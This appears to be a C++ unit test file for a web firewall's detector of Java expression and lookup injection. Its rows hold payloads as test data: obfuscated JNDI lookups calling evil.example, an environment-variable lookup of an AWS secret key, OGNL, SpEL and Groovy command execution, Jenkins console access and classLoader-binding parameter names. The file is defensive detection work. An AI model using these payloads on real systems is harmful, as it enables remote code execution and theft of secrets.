// Evidence and verdicts of Java's expressions, lookups and names.
#include <gtest/gtest.h>

#include "detect/analyze/java/java_matcher.h"
#include "detect/analyze/java/lookups.h"
#include "detect/analyze/java/names.h"
#include "tests/detect/analyze/analyze_support.h"

namespace wafd::detect {
namespace {

TEST(JavaNames, WhatTablesKnow) {
  const java::Name name = java::read_name("x java.lang.Runtime.exec('id')", 2);
  EXPECT_EQ(name.text, "java.lang.Runtime.exec");
  EXPECT_EQ(name.reach, java::Reach::kRuns);
  EXPECT_TRUE(name.classy);
  EXPECT_EQ(java::read_name("java.lang", 0).reach, java::Reach::kInner);
  EXPECT_FALSE(java::read_name("java.lang", 0).classy);
  EXPECT_TRUE(java::is_attack_class("com.sun.rowset.JdbcRowSetImpl"));
  EXPECT_FALSE(java::is_attack_class("Product"));
}

TEST(JavaLookups, ResolveFromTheInside) {
  using java::resolve_lookups;
  EXPECT_EQ(resolve_lookups("a${lower:X}b").resolved, "axb");
  EXPECT_EQ(resolve_lookups("${a:${lower:B}:-c}").resolved, "c");
  EXPECT_EQ(resolve_lookups("${::-j}ndi").resolved, "jndi");
  EXPECT_EQ(resolve_lookups("${unknown}").resolved, "${unknown}");
  EXPECT_EQ(resolve_lookups("${${lower:j}ndi:x").resolved, "${jndi:x");
  EXPECT_EQ(resolve_lookups("}}{$").resolved, "}}{$");
}

TEST(JavaMatcher, Evidence) {
  const auto matcher = make_java_matcher();
  const auto found = [&](std::string_view text) { return evidence_of(*matcher, text); };
  EXPECT_EQ(found("x${jndi:ldap://a}"), "jndi(certain) [${jndi:ldap://a}]");
  EXPECT_EQ(found("(#a=b)"), "ognl(certain) [#a]");
  EXPECT_EQ(found("T(java.lang.Math).random()"), "names_type(certain) [T(java.lang.Math)]");
  EXPECT_EQ(found("\"id\".execute()"), "runs(certain) [\".execute]");
  EXPECT_EQ(found("a.getMethod()"), "");
  EXPECT_EQ(found("java.lang"), "any_class(certain) [java.lang]");
}

struct Row {
  std::string_view text;
  const char* verdict;
};

constexpr Row kRows[] = {
    {"${jndi:ldap://evil.example/a}", "low"},
    {"${${lower:j}ndi:rmi://evil.example/a}", "low"},
    {"${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}", "low"},
    {"${${env:NONE:-j}ndi${env:NONE:-:}ldap://evil.example/a}", "low"},
    {"${${upper:${lower:J}}ndi:dns://evil.example}", "low"},
    {"${env:AWS_SECRET_ACCESS_KEY}", "balanced"},
    {"${script:javascript:1}", "balanced"},
    {"%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "low"},
    {"redirect:${#context['x'].getWriter()}", "low"},
    {"@java.lang.Runtime@getRuntime()", "low"},
    {"(#a=new x())", "low"},
    {"T(java.lang.Runtime).getRuntime().exec('id')", "low"},
    {"Runtime.getRuntime().exec('id')", "balanced"},
    {"new java.lang.ProcessBuilder('id').start()", "balanced"},
    {"\"id\".execute()", "balanced"},
    {"println 'id'.execute().text", "balanced"},
    {"['sh','-c','id'].execute()", "balanced"},
    {"['a','b'].executes()", "-"},
    {"queries[0].execute()", "-"},
    {"class.module.classLoader.resources", "low"},
    {"class.module.classLoader.resources.context.parent.pipeline.first.pattern", "low"},
    {"java.lang.Runtime", "balanced"},
    {"''.getClass().forName('x')", "balanced"},
    {"InvokerTransformer", "balanced"},
    {"@groovy.transform.ASTTest(value={assert 1})def x", "balanced"},
    {"@Grab('a:b:1')import x", "balanced"},
    {"Jenkins.instance.pluginManager", "balanced"},
    {"Runtime.runtime.exec('id')", "balanced"},
    {"println Runtime.runtime.exec(\"id\").text", "balanced"},
    {"Eval.me(\"1+1\")", "balanced"},
    {"println Jenkins.instance.toString()", "balanced"},
    {"Jenkins.get().getSecurityRealm()", "balanced"},
    {"jenkins.model.Jenkins", "balanced"},
    {"Jenkins.instance.example.org", "-"},
    {"jenkins.instance.of.ours", "-"},
    {"grab (it) and @grab", "-"},
    {"neutralName;javax.el.ELProcessor", "balanced"},
    {"class.classLoader.URLs[0]", "low"},
    {"class.classLoader.URLs[0]=jar:http://e.example", "low"},
    {"#{session.setAttribute('a','b')}", "balanced"},
};

TEST(Java, Verdicts) {
  for (const Row& row : kRows)
    EXPECT_EQ(verdict_of(analyzer_named("java"), row.text, Location::kQuery, false, "id"), row.verdict)
        << row.text;
}

constexpr const char* kOrdinary[] = {
    "Hello {{name}}, your order {{ order.id }} is ready",
    "Total: ${price}",
    "#{id} is the number",
    "{\"@type\":\"Product\",\"name\":\"x\"}",
    "{\"class\":\"btn btn-primary\",\"type\":\"button\"}",
    "java.lang.NullPointerException: x\n\tat java.lang.Thread.run(Thread.java:748)",
    "java.util.ArrayList",
    "java.lang",
    "java.io",
    "the package java.lang of the JDK",
    ("at java.base/java.lang.ProcessBuilder.start(ProcessBuilder.java:1128)\n\tat "
     "java.base/java.lang.Runtime.exec(Runtime.java:592)\n\tat "
     "x.InvokerTransformer.transform(InvokerTransformer.java:126)"),
    "2026-01-01 INFO o.s.b.Application com.sun.jersey started",
    "I use Java, Python and PHP",
    "me@a.example and you@b.example",
    "@john.doe@host.example wrote",
    "div#container.container > a",
    "$\\{x : x > 0\\}$",
    "$t",
    "class of module 3: exports",
    "100% {sure}",
};

// A lookup within a lookup's name, whose value nobody outside of the server knows.
TEST(Java, NamesOfLookupsThatLookupsMake) {
  EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer_named("java"), "${jn${date:di}:ldap://a.example/x}")));
  EXPECT_EQ(verdict_of(analyzer_named("java"), "${a.${b}}"), "-");
}

TEST(Java, OrdinaryTextPassesAtBalanced) {
  for (const char* text : kOrdinary) {
    for (const Location location : {Location::kQuery, Location::kBody})
      EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer_named("java"), text, location))) << text;
  }
}

TEST(Java, NamesOfParametersBindLoaders) {
  for (const char* name :
       {"class.module.classLoader.DefaultAssertionStatus", "class['classLoader']", "top['class']['module'].x",
        "Class.ClassLoader.x", "user.class.classLoader.URLs[0]"})
    EXPECT_EQ(verdict_of(analyzer_named("java"), name, Location::kQuery, true), "low") << name;
}

}  // namespace
}  // namespace wafd::detect
